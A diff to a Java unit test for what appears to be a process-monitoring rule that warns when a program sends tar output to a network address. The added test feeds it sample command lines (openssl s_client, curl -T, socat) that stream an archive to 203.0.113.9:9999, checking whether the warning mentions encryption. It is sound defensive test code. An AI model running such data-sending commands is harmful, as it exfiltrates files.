@@ -11,6 +11,7 @@ import io.totem.policy.testing.SampleBuilder;
 import io.totem.policy.testing.Scene;
 import io.totem.procfs.Connection;
 import java.net.InetAddress;
+import java.util.List;
 import java.util.Optional;
 import org.junit.jupiter.api.Test;
 
@@ -26,6 +27,22 @@ class SendsDataRuleTest {
                     assertThat(warning.title().en()).isEqualTo("sends what tar gives it to 203.0.113.9:9999");
                     assertThat(warning.why().ko()).contains("tar에서 나온 것");
                 });
+    }
+
+    @Test
+    void what_is_encrypted_on_the_way_is_not_called_open() {
+        Outflow dump = new Outflow("tar", Optional.empty(), OUT);
+        for (SampleBuilder sender : List.of(
+                program("/usr/bin/openssl").commandLine("openssl", "s_client", "-connect", "203.0.113.9:9999"),
+                program("/usr/bin/curl").commandLine("curl", "-T", "-", "https://203.0.113.9:9999/"),
+                program("/usr/bin/socat1").commandLine("socat", "-", "OPENSSL:203.0.113.9:9999"))) {
+            assertThat(told(sender, dump))
+                    .hasValueSatisfying(
+                            warning -> assertThat(warning.why().en()).contains("meant to be encrypted"));
+        }
+        assertThat(told(program("/usr/bin/curl").commandLine("curl", "-T", "-", "http://203.0.113.9:9999/"), dump))
+                .hasValueSatisfying(warning ->
+                        assertThat(warning.why().en()).contains("Nothing in its arguments asks for encryption"));
     }
 
     @Test
